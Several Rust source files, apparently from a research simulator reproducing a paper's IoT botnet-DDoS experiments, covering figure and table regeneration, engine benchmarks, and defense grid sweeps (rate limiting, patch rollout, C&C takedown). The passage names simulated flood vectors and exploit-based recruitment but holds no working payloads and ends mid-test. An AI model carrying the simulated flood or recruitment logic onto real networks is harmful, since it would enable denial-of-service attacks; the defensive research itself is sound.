        points.iter().map(|p| p.relative_error).sum::<f64>() / points.len().max(1) as f64;
    let max_err = points.iter().map(|p| p.relative_error).fold(0.0, f64::max);
    println!(
        "mean relative error {:.1}%, max {:.1}% — the paper's Fig. 4 claim is that the curves are similar",
        mean_err * 100.0,
        max_err * 100.0
    );
}
