//! Regenerates **Figure 3**: average received data rate vs attack duration
//! (150/200/300 s), across rounds of 50/100/150/200 Devs (§IV-B).
//!
//! Paper shape to reproduce: for every Dev count, a longer attack yields a
//! higher average received data rate (the fixed ramp-up amortizes over a
//! longer steady-state window).

use ddosim_core::experiment::fig3;
use ddosim_core::report::{fmt_f, Table};

fn main() {
    let (dev_counts, durations): (Vec<usize>, Vec<u64>) = if ddosim_bench::quick_mode() {
        (vec![50, 100], vec![150, 300])
    } else {
        (vec![50, 100, 150, 200], vec![150, 200, 300])
    };
    let reps = ddosim_bench::replicates(3);
    println!("Figure 3 sweep: devs={dev_counts:?} × durations={durations:?}s × {reps} replicates");
    let points = fig3(&dev_counts, &durations, reps, 2000);

    let mut table = Table::new(
        "Figure 3 — average received data rate (kbps) vs attack duration",
        &["devs", "duration (s)", "avg kbps"],
    );
    for p in &points {
        table.push_row(vec![
            p.devs.to_string(),
            p.duration_secs.to_string(),
            fmt_f(p.avg_kbps, 1),
        ]);
    }
    println!("{}", table.render());
    ddosim_bench::write_artifact("fig3.csv", &table.to_csv());
    let runs: Vec<&ddosim_core::RunResult> = points.iter().flat_map(|p| p.runs.iter()).collect();
    ddosim_bench::write_json("fig3_runs.json", &runs);

    // Shape check: within each round, averages rise with duration.
    for &devs in &dev_counts {
        let series: Vec<f64> = points
            .iter()
            .filter(|p| p.devs == devs)
            .map(|p| p.avg_kbps)
            .collect();
        let monotone = series.windows(2).all(|w| w[1] > w[0]);
        println!("devs={devs}: average rises with duration: {monotone} ({series:?})");
    }
}
