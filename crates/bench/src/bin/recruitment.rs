//! Compares recruitment mechanisms: the paper's memory-error exploitation
//! vs the Mirai-classic telnet credential dictionary (§I's motivation —
//! "with recent legislative measures mandating vendors to equip devices
//! with reasonable security levels, it is conceivable that attackers will
//! utilize more sophisticated vulnerabilities").
//!
//! Expected shape: memory-error recruitment reaches 100% regardless of
//! credential hygiene; the dictionary baseline recruits only the fraction
//! of devices that still use default credentials.

use ddosim_core::experiment::recruitment_comparison;
use ddosim_core::report::{fmt_f, Table};

fn main() {
    let devs = if ddosim_bench::quick_mode() { 10 } else { 50 };
    println!("Recruitment comparison over {devs} Devs");
    let rows = recruitment_comparison(devs, 7000);

    let mut table = Table::new(
        "Recruitment: memory-error exploitation vs credential scanning",
        &["mechanism", "infection rate", "avg received data rate (kbps)"],
    );
    for r in &rows {
        table.push_row(vec![
            r.label.clone(),
            format!("{:.0}%", r.infection_rate * 100.0),
            fmt_f(r.avg_kbps, 1),
        ]);
    }
    println!("{}", table.render());
    ddosim_bench::write_artifact("recruitment.csv", &table.to_csv());
}
