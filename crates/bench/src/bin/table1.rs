//! Regenerates **Table I**: hardware resources consumed by DDoSim —
//! pre-attack memory, attack-phase memory, and attack wall-clock time vs
//! number of Devs (20/40/70/100/130), 100-second attack (§IV-B).
//!
//! Paper shape to reproduce: pre-attack memory grows roughly linearly with
//! Devs (container images); attack memory exceeds pre-attack and grows
//! faster (per-packet bookkeeping for attack traffic); attack wall-clock
//! grows with Devs. Absolute wall-clock depends on the host — the paper's
//! laptop needed minutes where this simulator needs seconds; the *trend*
//! is the reproduced observation.

use ddosim_core::experiment::table1;
use ddosim_core::report::{fmt_f, Table};

fn main() {
    let dev_counts: Vec<usize> = if ddosim_bench::quick_mode() {
        vec![20, 70]
    } else {
        vec![20, 40, 70, 100, 130]
    };
    println!("Table I sweep: devs={dev_counts:?} (sequential runs; wall-clock is the measurement)");
    let rows = table1(&dev_counts, 3000);

    // The paper's measurements, for side-by-side comparison.
    let paper: &[(usize, f64, f64, &str)] = &[
        (20, 0.38, 0.39, "2:03"),
        (40, 0.52, 1.15, "2:43"),
        (70, 0.73, 1.47, "3:22"),
        (100, 0.94, 1.93, "3:48"),
        (130, 1.32, 3.11, "5:14"),
    ];

    let mut table = Table::new(
        "Table I — hardware resources consumed by DDoSim (measured vs paper)",
        &[
            "devs",
            "pre-attack mem (GB)",
            "paper",
            "attack mem (GB)",
            "paper",
            "attack time",
            "paper",
        ],
    );
    for r in &rows {
        let p = paper.iter().find(|(d, ..)| *d == r.devs);
        table.push_row(vec![
            r.devs.to_string(),
            fmt_f(r.pre_attack_mem_gb, 2),
            p.map(|p| fmt_f(p.1, 2)).unwrap_or_else(|| "-".into()),
            fmt_f(r.attack_mem_gb, 2),
            p.map(|p| fmt_f(p.2, 2)).unwrap_or_else(|| "-".into()),
            r.attack_time.clone(),
            p.map(|p| p.3.to_owned()).unwrap_or_else(|| "-".into()),
        ]);
    }
    println!("{}", table.render());
    ddosim_bench::write_artifact("table1.csv", &table.to_csv());

    // Shape checks.
    let pre_monotone = rows.windows(2).all(|w| w[1].pre_attack_mem_gb > w[0].pre_attack_mem_gb);
    let attack_exceeds = rows.iter().all(|r| r.attack_mem_gb >= r.pre_attack_mem_gb);
    let time_monotone = rows
        .windows(2)
        .all(|w| w[1].attack_wall_clock_secs >= w[0].attack_wall_clock_secs);
    println!("pre-attack memory grows with Devs: {pre_monotone}");
    println!("attack memory ≥ pre-attack memory: {attack_exceeds}");
    println!("attack wall-clock grows with Devs: {time_monotone}");
}
