//! Regenerates the **§IV-C insight** ablations:
//!
//! * removing `curl` (or `wget`) from the firmware image blocks the
//!   infection chain — the paper's "firmware vendors may choose not to
//!   install the curl command" insight;
//! * capping the device data rate caps the attack magnitude — the paper's
//!   "limit the available data rate on these devices" insight.

use ddosim_core::experiment::ablations;
use ddosim_core::report::{fmt_f, Table};

fn main() {
    let devs = if ddosim_bench::quick_mode() { 10 } else { 50 };
    println!("Ablations over {devs} Devs (§IV-C insights)");
    let rows = ablations(devs, 6000);

    let mut table = Table::new(
        "§IV-C insight ablations",
        &["ablation", "infection rate", "avg received data rate (kbps)"],
    );
    for r in &rows {
        table.push_row(vec![
            r.label.clone(),
            format!("{:.0}%", r.infection_rate * 100.0),
            fmt_f(r.avg_kbps, 1),
        ]);
    }
    println!("{}", table.render());
    ddosim_bench::write_artifact("ablations.csv", &table.to_csv());

    let baseline = &rows[0];
    let no_curl = rows.iter().find(|r| r.label.contains("removes curl"));
    if let Some(no_curl) = no_curl {
        println!(
            "removing curl: infection {:.0}% → {:.0}%, attack {:.0} → {:.0} kbps",
            baseline.infection_rate * 100.0,
            no_curl.infection_rate * 100.0,
            baseline.avg_kbps,
            no_curl.avg_kbps
        );
    }
}
