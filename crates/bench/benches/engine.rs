//! Criterion micro-benchmarks of the discrete-event engine: raw event
//! throughput, link saturation, and tcp-lite handshakes — the simulator
//! performance that bounds how large a botnet a host can simulate
//! (the paper's scalability argument for containers over full emulation).

use criterion::{criterion_group, criterion_main, BatchSize, Criterion, Throughput};
use netsim::{Application, Ctx, LinkConfig, Packet, Payload, SimTime, Simulator, TcpEvent};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Duration;

fn v4(d: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(10, 0, 0, d))
}

#[derive(Default)]
struct Sink(u64);
impl Application for Sink {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(9).expect("bind");
    }
    fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _p: &Packet) {
        self.0 += 1;
    }
}

struct Blaster {
    dst: SocketAddr,
    count: u32,
    sent: u32,
}
impl Application for Blaster {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(1000).expect("bind");
        ctx.set_timer(Duration::ZERO, 0);
    }
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: u64) {
        if self.sent >= self.count {
            return;
        }
        self.sent += 1;
        ctx.udp_send(1000, self.dst, Payload::empty(), 512).expect("send");
        ctx.set_timer(Duration::from_micros(50), 0);
    }
}

fn two_hosts(rate_bps: u64) -> Simulator {
    let mut sim = Simulator::new(1);
    let a = sim.add_node("a");
    let b = sim.add_node("b");
    let ia = sim.add_iface(a, vec![v4(1)]);
    let ib = sim.add_iface(b, vec![v4(2)]);
    sim.connect_p2p(ia, ib, LinkConfig::new(rate_bps, Duration::from_millis(1)))
        .expect("link");
    sim.add_default_route(a, ia);
    sim.add_default_route(b, ib);
    sim
}

fn bench_packet_delivery(c: &mut Criterion) {
    let mut group = c.benchmark_group("engine");
    const PACKETS: u32 = 10_000;
    group.throughput(Throughput::Elements(u64::from(PACKETS)));
    group.bench_function("udp_delivery_10k_packets", |b| {
        b.iter_batched(
            || {
                let mut sim = two_hosts(1_000_000_000);
                sim.install_app(
                    netsim::NodeId::from_index(1),
                    Box::new(Sink::default()),
                );
                sim.install_app(
                    netsim::NodeId::from_index(0),
                    Box::new(Blaster {
                        dst: SocketAddr::new(v4(2), 9),
                        count: PACKETS,
                        sent: 0,
                    }),
                );
                sim
            },
            |mut sim| {
                sim.run_until(SimTime::from_secs(10));
                assert_eq!(sim.stats().packets_delivered, u64::from(PACKETS));
                sim
            },
            BatchSize::SmallInput,
        );
    });
    group.finish();
}

fn bench_tcp_handshake(c: &mut Criterion) {
    struct Server;
    impl Application for Server {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.tcp_listen(23).expect("listen");
        }
    }
    struct Clients {
        server: SocketAddr,
        remaining: u32,
        connected: u32,
    }
    impl Application for Clients {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.set_timer(Duration::ZERO, 0);
        }
        fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: u64) {
            if self.remaining == 0 {
                return;
            }
            self.remaining -= 1;
            ctx.tcp_connect(self.server).expect("connect");
            ctx.set_timer(Duration::from_micros(100), 0);
        }
        fn on_tcp(&mut self, ctx: &mut Ctx<'_>, ev: TcpEvent) {
            if let TcpEvent::Connected { conn } = ev {
                self.connected += 1;
                ctx.tcp_close(conn);
            }
        }
    }
    let mut group = c.benchmark_group("engine");
    const CONNS: u32 = 1_000;
    group.throughput(Throughput::Elements(u64::from(CONNS)));
    group.bench_function("tcp_handshake_1k_conns", |b| {
        b.iter_batched(
            || {
                let mut sim = two_hosts(1_000_000_000);
                sim.install_app(netsim::NodeId::from_index(1), Box::new(Server));
                sim.install_app(
                    netsim::NodeId::from_index(0),
                    Box::new(Clients {
                        server: SocketAddr::new(v4(2), 23),
                        remaining: CONNS,
                        connected: 0,
                    }),
                );
                sim
            },
            |mut sim| {
                sim.run_until(SimTime::from_secs(10));
                sim
            },
            BatchSize::SmallInput,
        );
    });
    group.finish();
}

fn config() -> Criterion {
    Criterion::default().sample_size(10)
}

criterion_group! {
    name = benches;
    config = config();
    targets = bench_packet_delivery, bench_tcp_handshake
}
criterion_main!(benches);
