//! Criterion benchmarks of the full pipeline: how fast a complete
//! botnet-DDoS scenario (infect → recruit → flood → measure) simulates,
//! per Dev count — the wall-clock scaling behind Table I's Attack Time
//! column.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use ddosim_core::{AttackSpec, SimulationBuilder};
use std::hint::black_box;
use std::time::Duration;

fn bench_full_scenario(c: &mut Criterion) {
    let mut group = c.benchmark_group("botnet/full_scenario");
    group.sample_size(10);
    for devs in [5usize, 15, 30] {
        group.bench_with_input(BenchmarkId::from_parameter(devs), &devs, |b, &devs| {
            b.iter(|| {
                let result = SimulationBuilder::new()
                    .devs(devs)
                    .attack(AttackSpec::udp_plain(Duration::from_secs(20)))
                    .attack_at(Duration::from_secs(30))
                    .sim_time(Duration::from_secs(60))
                    .attack_ramp(Duration::from_secs(3))
                    .seed(42)
                    .run()
                    .expect("valid configuration");
                assert_eq!(result.infected, devs);
                black_box(result)
            });
        });
    }
    group.finish();
}

fn bench_flood_only(c: &mut Criterion) {
    use malware::FloodEngine;
    use netsim::SimTime;
    use protocols::{AttackCommand, AttackVector};

    let cmd = AttackCommand {
        vector: AttackVector::UdpPlain,
        target: "10.0.0.9".parse().expect("ip"),
        port: 80,
        duration_secs: 100,
        payload_bytes: None,
        reflector: None,
    };
    let engine = FloodEngine::start(cmd, 7, 600_000, SimTime::ZERO);
    let src = "10.0.0.1:4000".parse().expect("addr");
    c.bench_function("botnet/flood_packet_build", |b| {
        b.iter(|| black_box(engine.build_packet(black_box(src))));
    });
}

criterion_group!(benches, bench_full_scenario, bench_flood_only);
criterion_main!(benches);
