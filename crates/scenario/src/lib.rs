//! # scenario — declarative adversary-vs-defense scenarios
//!
//! One checked-in JSON plan (`ddosim.scenario/1`) composes a full
//! experiment: the world (topology, churn, recruitment), an attack
//! schedule, an embedded fault plan, the defense deployments arrayed
//! against the botnet, and optional rival botnet pressure. Plans are
//! validated strictly at parse time — schema version pinned, unknown
//! fields rejected at every level — and execute deterministically: all
//! deployments are forkable scheduled calls, and any randomized choice
//! draws from the scenario's own RNG stream
//! (`world_seed ^ plan_seed ^ SCENARIO_TAG`), leaving the simulator's
//! streams untouched. An empty scenario is a strict no-op against the
//! plain builder path.
//!
//! # Examples
//!
//! ```no_run
//! use scenario::ScenarioPlan;
//! use std::time::Duration;
//!
//! let text = std::fs::read_to_string("plans/rate_limit.scenario.json").unwrap();
//! let plan = ScenarioPlan::parse(&text).expect("valid plan");
//! let mut world = plan.build().expect("valid configuration");
//! world.run_until(plan.config().sim_time);
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod exec;
pub mod plan;
pub mod sweep;

pub use exec::SCENARIO_TAG;
pub use plan::{DefenseSpec, RivalSpec, ScenarioPlan, SCENARIO_SCHEMA};
pub use sweep::{
    patch_rollout_grid, rate_limit_grid, run_grid_streamed, takedown_grid, CellOutcome, GridCell,
    SweepGridPlan, SWEEPGRID_SCHEMA,
};
