//! Grid sweeps over a scenario plan's defense parameters under common
//! random numbers.
//!
//! ROADMAP item 3 meets item 1 here: a base plan is expanded into a grid
//! of cells that differ only in one defense's parameters (rate-limit
//! budget × deploy time, patch waves × interval, takedown time × backup
//! count), and every cell of a replicate runs under the same pinned
//! [`RngPlan`] — identical world, event, and fault streams — so
//! cell-to-cell differences are the defense's effect, not reseeded noise.
//! Rows stream back as workers finish, like
//! [`ddosim_core::try_run_configs_streamed`].

use crate::plan::{DefenseSpec, ScenarioPlan};
use ddosim_core::{
    install_location_hook, panic_message, take_panic_location, Ddosim, RngPlan, RunResult,
};
use djson::Json;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

/// One cell of a defense-parameter grid: a label naming the parameters
/// and the plan variant carrying them.
#[derive(Debug, Clone)]
pub struct GridCell {
    /// Human-readable cell label (row label in frontier tables).
    pub label: String,
    /// The plan variant this cell runs.
    pub plan: ScenarioPlan,
}

/// Replaces the single `rate_limit` defense across a (rate × deploy-time)
/// grid.
///
/// # Errors
///
/// Returns a message if the base plan has no `rate_limit` defense or has
/// more than one.
pub fn rate_limit_grid(
    base: &ScenarioPlan,
    rates_bps: &[u64],
    deploy_at_secs: &[u64],
) -> Result<Vec<GridCell>, String> {
    expand(base, "rate_limit", rates_bps, deploy_at_secs, |d, &rate, &at| {
        let DefenseSpec::RateLimit { burst_bytes, .. } = *d else {
            unreachable!("expand matched the kind");
        };
        (
            format!("rate_limit {rate} bps at {at}s"),
            DefenseSpec::RateLimit {
                at: Duration::from_secs(at),
                rate_bps: rate,
                burst_bytes,
            },
        )
    })
}

/// Replaces the single `patch_rollout` defense across a (wave count ×
/// wave interval) grid.
///
/// # Errors
///
/// Returns a message if the base plan has no `patch_rollout` defense or
/// has more than one.
pub fn patch_rollout_grid(
    base: &ScenarioPlan,
    waves: &[u32],
    wave_interval_secs: &[u64],
) -> Result<Vec<GridCell>, String> {
    expand(base, "patch_rollout", waves, wave_interval_secs, |d, &w, &secs| {
        let DefenseSpec::PatchRollout { start, ref remove, .. } = *d else {
            unreachable!("expand matched the kind");
        };
        (
            format!("patch_rollout {w} waves every {secs}s"),
            DefenseSpec::PatchRollout {
                start,
                wave_interval: Duration::from_secs(secs),
                waves: w,
                remove: remove.clone(),
            },
        )
    })
}

/// Replaces the single `cnc_takedown` defense across a (takedown time ×
/// backup count) grid. The backup count is build-time world shape, so the
/// cell's configuration is re-synced with the defense.
///
/// # Errors
///
/// Returns a message if the base plan has no `cnc_takedown` defense or
/// has more than one.
pub fn takedown_grid(
    base: &ScenarioPlan,
    at_secs: &[u64],
    backups: &[u16],
) -> Result<Vec<GridCell>, String> {
    let mut cells = expand(base, "cnc_takedown", at_secs, backups, |_, &at, &n| {
        (
            format!("cnc_takedown at {at}s, {n} backups"),
            DefenseSpec::CncTakedown {
                at: Duration::from_secs(at),
                backups: n,
            },
        )
    })?;
    for cell in &mut cells {
        let backups = cell
            .plan
            .defenses
            .iter()
            .find_map(|d| match *d {
                DefenseSpec::CncTakedown { backups, .. } => Some(backups),
                _ => None,
            })
            .expect("expand produced a takedown cell");
        cell.plan.config_mut().backup_cncs = backups;
    }
    Ok(cells)
}

/// Shared grid expansion: clones the base plan per (a × b) point and
/// swaps the single defense of `kind` for the variant `make` builds.
fn expand<A, B>(
    base: &ScenarioPlan,
    kind: &str,
    axis_a: &[A],
    axis_b: &[B],
    make: impl Fn(&DefenseSpec, &A, &B) -> (String, DefenseSpec),
) -> Result<Vec<GridCell>, String> {
    let positions: Vec<usize> = base
        .defenses
        .iter()
        .enumerate()
        .filter(|(_, d)| d.kind() == kind)
        .map(|(i, _)| i)
        .collect();
    let [pos] = positions[..] else {
        return Err(format!(
            "grid sweep needs exactly one '{kind}' defense in plan '{}', found {}",
            base.name,
            positions.len()
        ));
    };
    let mut cells = Vec::with_capacity(axis_a.len() * axis_b.len());
    for a in axis_a {
        for b in axis_b {
            let mut plan = base.clone();
            let (label, defense) = make(&base.defenses[pos], a, b);
            plan.defenses[pos] = defense;
            cells.push(GridCell { label, plan });
        }
    }
    Ok(cells)
}

/// One grid cell's swept outcomes: per-replicate rows plus the headline
/// means a frontier table wants.
#[derive(Debug)]
pub struct CellOutcome {
    /// The cell's label.
    pub label: String,
    /// Per-replicate outcomes, in replicate order.
    pub rows: Vec<Result<RunResult, String>>,
    /// Mean received data rate (kbps) over completed replicates.
    pub mean_kbps: f64,
    /// Mean bots at the attack command over completed replicates.
    pub mean_bots_at_command: f64,
    /// Mean flood packets received over completed replicates.
    pub mean_flood_packets: f64,
}

/// Runs every grid cell `replicates` times under shared noise and streams
/// rows as they land.
///
/// Replicate `r` of *every* cell carries run seed `base_seed + r` and
/// [`RngPlan::pinned`]`(base_seed + r)`: within a replicate the cells are
/// a CRN-paired family (identical worlds, identical event and fault
/// streams — and an identical scenario stream, which derives from the
/// shared run seed), so the defense parameters are the only thing that
/// varies. `on_row(cell, replicate, outcome)` fires on the calling thread
/// the moment a worker finishes that cell-replicate; the full outcome set
/// still comes back in grid order. Cells run in parallel across available
/// threads, one single-threaded world each.
pub fn run_grid_streamed(
    cells: &[GridCell],
    replicates: u64,
    base_seed: u64,
    mut on_row: impl FnMut(usize, u64, &Result<RunResult, String>),
) -> Vec<CellOutcome> {
    let reps = replicates.max(1) as usize;
    let jobs: Vec<(usize, u64)> = (0..cells.len())
        .flat_map(|c| (0..reps as u64).map(move |r| (c, r)))
        .collect();
    let n = jobs.len();
    let threads = std::thread::available_parallelism()
        .map(std::num::NonZeroUsize::get)
        .unwrap_or(4)
        .min(n.max(1));
    install_location_hook();
    let next = AtomicUsize::new(0);
    let mut rows: Vec<Option<Result<RunResult, String>>> = (0..n).map(|_| None).collect();
    let (tx, rx) = std::sync::mpsc::channel::<(usize, Result<RunResult, String>)>();
    std::thread::scope(|scope| {
        let jobs = &jobs;
        let next = &next;
        for _ in 0..threads {
            let tx = tx.clone();
            scope.spawn(move || loop {
                let j = next.fetch_add(1, Ordering::Relaxed);
                if j >= n {
                    break;
                }
                let (c, r) = jobs[j];
                let mut plan = cells[c].plan.clone();
                plan.pin_noise(base_seed + r, RngPlan::pinned(base_seed + r));
                let outcome = match catch_unwind(AssertUnwindSafe(|| {
                    plan.build().map(Ddosim::run_to_completion)
                })) {
                    Ok(Ok(result)) => Ok(result),
                    Ok(Err(msg)) => {
                        Err(format!("cell {c} replicate {r} invalid: {msg}"))
                    }
                    Err(payload) => Err(format!(
                        "cell {c} replicate {r} panicked{}: {}",
                        take_panic_location(),
                        panic_message(&*payload)
                    )),
                };
                if tx.send((j, outcome)).is_err() {
                    break;
                }
            });
        }
        drop(tx);
        for (j, outcome) in rx {
            let (c, r) = jobs[j];
            on_row(c, r, &outcome);
            rows[j] = Some(outcome);
        }
    });
    let mut rows = rows.into_iter().map(|r| r.expect("every job produced"));
    cells
        .iter()
        .map(|cell| {
            let cell_rows: Vec<Result<RunResult, String>> =
                (&mut rows).take(reps).collect();
            let mean = |f: fn(&RunResult) -> f64| {
                let ok: Vec<f64> = cell_rows.iter().flatten().map(f).collect();
                if ok.is_empty() {
                    0.0
                } else {
                    ok.iter().sum::<f64>() / ok.len() as f64
                }
            };
            let mean_kbps = mean(|r| r.avg_received_data_rate_kbps);
            let mean_bots_at_command = mean(|r| r.bots_at_command as f64);
            let mean_flood_packets = mean(|r| r.flood_packets_received as f64);
            CellOutcome {
                label: cell.label.clone(),
                rows: cell_rows,
                mean_kbps,
                mean_bots_at_command,
                mean_flood_packets,
            }
        })
        .collect()
}

/// Schema tag for checked-in grid-sweep plans (`plans/*.sweep.json`).
pub const SWEEPGRID_SCHEMA: &str = "ddosim.sweepgrid/1";

/// A parsed, validated grid-sweep plan: a base `ddosim.scenario/1` plan
/// expanded along one defense's two parameter axes, plus the replicate
/// count and base seed the CRN pairing runs under.
#[derive(Debug)]
pub struct SweepGridPlan {
    /// Human-readable sweep name (table caption).
    pub name: String,
    /// The base plan every cell derives from.
    pub base: ScenarioPlan,
    /// The expanded grid cells, in axis-major order.
    pub cells: Vec<GridCell>,
    /// CRN replicates per cell.
    pub replicates: u64,
    /// Replicate `r` runs every cell under seed `base_seed + r`.
    pub base_seed: u64,
}

impl SweepGridPlan {
    /// Parses and strictly validates a `ddosim.sweepgrid/1` document:
    /// schema pinned, unknown top-level fields rejected, the embedded
    /// base plan validated by [`ScenarioPlan::parse`], and the grid
    /// expanded eagerly so axis errors surface at parse time.
    ///
    /// # Errors
    ///
    /// Returns a message naming the offending field.
    pub fn parse(text: &str) -> Result<Self, String> {
        let doc = Json::parse(text).map_err(|e| format!("sweep grid plan: {e}"))?;
        let schema = doc.get("schema").and_then(Json::as_str).unwrap_or("");
        if schema != SWEEPGRID_SCHEMA {
            return Err(format!(
                "sweep grid plan: schema must be '{SWEEPGRID_SCHEMA}', got '{schema}'"
            ));
        }
        let axis = doc
            .get("axis")
            .and_then(Json::as_str)
            .ok_or("sweep grid plan: missing 'axis'")?
            .to_owned();
        let (axis_a, axis_b) = match axis.as_str() {
            "rate_limit" => ("rates_bps", "deploy_at_secs"),
            "patch_rollout" => ("waves", "wave_interval_secs"),
            "cnc_takedown" => ("at_secs", "backups"),
            other => {
                return Err(format!(
                    "sweep grid plan: unknown axis '{other}' \
                     (rate_limit | patch_rollout | cnc_takedown)"
                ))
            }
        };
        let known =
            ["schema", "name", "axis", "replicates", "base_seed", "base", axis_a, axis_b];
        if let Json::Obj(members) = &doc {
            for (key, _) in members {
                if !known.contains(&key.as_str()) {
                    return Err(format!("sweep grid plan: unknown field '{key}'"));
                }
            }
        }
        let name = doc
            .get("name")
            .and_then(Json::as_str)
            .ok_or("sweep grid plan: missing 'name'")?
            .to_owned();
        let u64s = |field: &str| -> Result<Vec<u64>, String> {
            let arr = doc
                .get(field)
                .and_then(Json::as_array)
                .ok_or_else(|| format!("sweep grid plan: '{field}' must be an array"))?;
            if arr.is_empty() {
                return Err(format!("sweep grid plan: '{field}' must not be empty"));
            }
            arr.iter()
                .map(|v| {
                    v.as_u64().ok_or_else(|| {
                        format!("sweep grid plan: '{field}' entries must be unsigned integers")
                    })
                })
                .collect()
        };
        let base_json = doc.get("base").ok_or("sweep grid plan: missing 'base'")?;
        let base = ScenarioPlan::parse(&base_json.to_string_compact())
            .map_err(|e| format!("sweep grid plan: base: {}", String::from(e)))?;
        let a = u64s(axis_a)?;
        let b = u64s(axis_b)?;
        let cells = match axis.as_str() {
            "rate_limit" => rate_limit_grid(&base, &a, &b)?,
            "patch_rollout" => {
                let waves: Vec<u32> = a.iter().map(|&w| w as u32).collect();
                patch_rollout_grid(&base, &waves, &b)?
            }
            "cnc_takedown" => {
                let backups: Vec<u16> = b.iter().map(|&n| n as u16).collect();
                takedown_grid(&base, &a, &backups)?
            }
            _ => unreachable!("axis validated above"),
        };
        let replicates = doc.get("replicates").and_then(Json::as_u64).unwrap_or(1).max(1);
        let base_seed = doc.get("base_seed").and_then(Json::as_u64).unwrap_or(42);
        Ok(SweepGridPlan { name, base, cells, replicates, base_seed })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_plan(defense: &str) -> ScenarioPlan {
        ScenarioPlan::parse(&format!(
            r#"{{
  "schema": "ddosim.scenario/1",
  "name": "sweep-test",
  "world": {{ "devs": 3, "sim_time_secs": 45, "attack_at_secs": 25 }},
  "attack": {{ "vector": "udpplain", "duration_secs": 15 }},
  "defenses": [{defense}]
}}"#
        ))
        .expect("test plan parses")
    }

    fn rate_limit_plan() -> ScenarioPlan {
        small_plan(
            r#"{ "kind": "rate_limit", "at_secs": 26, "rate_bps": 64000, "burst_bytes": 16000 }"#,
        )
    }

    #[test]
    fn rate_limit_grid_expands_both_axes() {
        let cells = rate_limit_grid(&rate_limit_plan(), &[1000, 2000], &[26, 30, 34])
            .expect("grid expands");
        assert_eq!(cells.len(), 6);
        assert_eq!(cells[0].label, "rate_limit 1000 bps at 26s");
        let DefenseSpec::RateLimit { at, rate_bps, burst_bytes } = cells[5].plan.defenses[0]
        else {
            panic!("cell keeps its rate_limit defense");
        };
        assert_eq!(at, Duration::from_secs(34));
        assert_eq!(rate_bps, 2000);
        assert_eq!(burst_bytes, 16000, "untouched fields survive the swap");
    }

    #[test]
    fn grid_requires_exactly_one_matching_defense() {
        let none = small_plan(
            r#"{ "kind": "egress_filter", "at_secs": 26 }"#,
        );
        let err = rate_limit_grid(&none, &[1000], &[26]).expect_err("no rate_limit");
        assert!(err.contains("found 0"), "got: {err}");
        let err = patch_rollout_grid(&none, &[2], &[5]).expect_err("no patch_rollout");
        assert!(err.contains("patch_rollout"), "got: {err}");
    }

    #[test]
    fn takedown_grid_resyncs_world_shape() {
        let base = small_plan(r#"{ "kind": "cnc_takedown", "at_secs": 30, "backups": 0 }"#);
        let cells = takedown_grid(&base, &[28, 32], &[0, 2]).expect("grid expands");
        assert_eq!(cells.len(), 4);
        for cell in &cells {
            let DefenseSpec::CncTakedown { backups, .. } = cell.plan.defenses[0] else {
                panic!("takedown cell");
            };
            assert_eq!(
                cell.plan.config().backup_cncs,
                backups,
                "config must track the swept backup count"
            );
        }
    }

    fn grid_doc(extra: &str) -> String {
        format!(
            r#"{{
  "schema": "ddosim.sweepgrid/1",
  "name": "test grid",
  "axis": "rate_limit",
  "rates_bps": [16000, 64000],
  "deploy_at_secs": [26, 30],
  "replicates": 2,
  "base_seed": 7{extra},
  "base": {{
    "schema": "ddosim.scenario/1",
    "name": "sweep-test",
    "world": {{ "devs": 3, "sim_time_secs": 45, "attack_at_secs": 25 }},
    "attack": {{ "vector": "udpplain", "duration_secs": 15 }},
    "defenses": [{{ "kind": "rate_limit", "at_secs": 26, "rate_bps": 64000, "burst_bytes": 16000 }}]
  }}
}}"#
        )
    }

    #[test]
    fn sweepgrid_plan_parses_and_expands() {
        let plan = SweepGridPlan::parse(&grid_doc("")).expect("valid grid plan");
        assert_eq!(plan.name, "test grid");
        assert_eq!(plan.cells.len(), 4);
        assert_eq!(plan.replicates, 2);
        assert_eq!(plan.base_seed, 7);
        assert_eq!(plan.cells[0].label, "rate_limit 16000 bps at 26s");
        assert_eq!(plan.base.name, "sweep-test");
    }

    #[test]
    fn sweepgrid_plan_rejects_bad_documents() {
        for (doc, fragment) in [
            ("{}".to_owned(), "schema"),
            (grid_doc("").replace("ddosim.sweepgrid/1", "ddosim.sweepgrid/2"), "schema"),
            (grid_doc(",\n  \"surprise\": 1"), "unknown field 'surprise'"),
            (grid_doc("").replace("rate_limit\"", "firewall\""), "unknown axis"),
            (grid_doc("").replace("[16000, 64000]", "[]"), "must not be empty"),
            (grid_doc("").replace("[16000, 64000]", "[\"fast\"]"), "unsigned"),
            (grid_doc("").replace("ddosim.scenario/1", "nope/1"), "base"),
        ] {
            let err = SweepGridPlan::parse(&doc).expect_err("must reject");
            assert!(err.contains(fragment), "error {err:?} does not mention {fragment:?}");
        }
    }

    #[test]
    fn grid_runs_are_deterministic_and_paired() {
        // Two cells with identical defense parameters must produce
        // identical rows under the pinned noise plan — the CRN guarantee
        // a frontier table rests on — and a second sweep must reproduce
        // the first byte for byte.
        let cells = rate_limit_grid(&rate_limit_plan(), &[64000, 64000], &[26])
            .expect("grid expands");
        let mut streamed: Vec<Option<String>> = vec![None; 4];
        let a = run_grid_streamed(&cells, 2, 7, |c, r, outcome| {
            let slot = &mut streamed[c * 2 + r as usize];
            assert!(slot.is_none(), "cell {c} rep {r} delivered twice");
            *slot = Some(match outcome {
                Ok(res) => res.to_deterministic_json().to_string_compact(),
                Err(e) => e.clone(),
            });
        });
        let b = run_grid_streamed(&cells, 2, 7, |_, _, _| {});
        assert_eq!(a.len(), 2);
        let repr = |row: &Result<RunResult, String>| match row {
            Ok(res) => res.to_deterministic_json().to_string_compact(),
            Err(e) => e.clone(),
        };
        for (cell_a, cell_b) in a.iter().zip(&b) {
